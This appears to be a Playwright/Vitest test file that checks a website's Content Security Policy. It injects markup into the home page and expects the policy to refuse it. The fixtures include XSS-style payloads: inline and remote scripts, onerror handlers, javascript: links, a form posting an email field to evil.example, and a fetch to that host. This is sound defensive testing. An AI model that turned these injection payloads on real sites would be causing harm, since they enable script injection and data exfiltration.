import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { realSiteBrowser } from '../support/real-site-browser'
import { refusalsOf } from '../support/refusals'

const newPage = realSiteBrowser()

/** Opens the home page with injected markup, as an attacker would. */
async function openWith(markup: string): Promise<{ page: Page; refused: string[] }> {
  const page = await newPage()
  const refused = await refusalsOf(page)
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</main>', () => `<div id="in">${markup}</div></main>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/')
  return { page, refused }
}

/** In milliseconds: violations are reported with a delay, which is longer on a busy machine. */
const patience = { timeout: 10_000 }

const evil = 'https://evil.example'

/** What is injected at once, each with what is refused of it. */
const injected = [
  ['<script>document.title = "in"</script>', 'script-src-elem inline'],
  [`<script src="${evil}/a.js"></script>`, `script-src-elem ${evil}/a.js`],
  ['<img src="/none.png" onerror="document.title = \'in\'">', 'script-src-attr inline'],
  ['<style>#in { outline: 9px solid }</style>', 'style-src-elem inline'],
  [`<link rel="stylesheet" href="${evil}/a.css">`, `style-src-elem ${evil}/a.css`],
  ['<p style="outline: 9px solid">a</p>', 'style-src-attr inline'],
  [`<img src="${evil}/a.png" alt="">`, `img-src ${evil}/a.png`],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">', 'img-src data'],
  [`<link rel="preload" as="font" crossorigin href="${evil}/a.woff2">`, `font-src ${evil}/a.woff2`],
  [`<iframe src="${evil}/"></iframe>`, `frame-src ${evil}`],
  [`<object data="${evil}/a.svg"></object>`, `object-src ${evil}`],
  [`<base href="${evil}/">`, `base-uri ${evil}/`],
] as const

test('scripts, styles, pictures, fonts, frames and bases that are injected into a page are refused', async () => {
  const { page, refused } = await openWith(injected.map(([markup]) => markup).join(''))
  for (const [, words] of injected) await expect.poll(() => refused.join('\n'), patience).toContain(words)
  const outlines = await page
    .locator('#in, #in p')
    .evaluateAll((all) => all.map((one) => getComputedStyle(one).outlineStyle))
  expect([await page.title(), ...outlines].join()).not.toMatch(/^in,|solid/)
})

test('a link to a script and a form that sends the address elsewhere are refused, too', async () => {
  const link = '<a href="javascript:document.title = \'in\'">come</a>'
  const { page, refused } = await openWith(
    `${link}<form action="${evil}/"><input name="email"><button>send</button></form>`,
  )
  await page.getByRole('link', { name: 'come' }).click()
  await expect.poll(() => refused.join('\n'), patience).toContain('script-src-elem inline')
  expect(await page.title()).not.toBe('in')
  await page.getByRole('button', { name: 'send' }).click({ noWaitAfter: true })
  await expect.poll(() => refused.join('\n'), patience).toContain(`form-action ${evil}`)
})

test('unsafe uses of untrusted text by a script are refused', async () => {
  const { page, refused } = await openWith('')
  const uses: Readonly<Record<string, () => unknown>> = {
    'makes markup of it': () => document.body.insertAdjacentHTML('beforeend', '<b>in</b>'),
    'runs it later': () => setTimeout('document.title = 1'),
    'gives it to a script': () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
    'has it trusted': () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
  }
  for (const [name, act] of Object.entries(uses)) {
    await expect(page.evaluate(act), name).rejects.toThrow(/TypeError|EvalError/)
  }
  await expect(page.evaluate(() => fetch('https://evil.example/'))).rejects.toThrow('Failed to fetch')
  // The tests let no request out in any case.
  await expect.poll(() => refused.join('\n'), patience).toContain(`connect-src ${evil}/`)
})
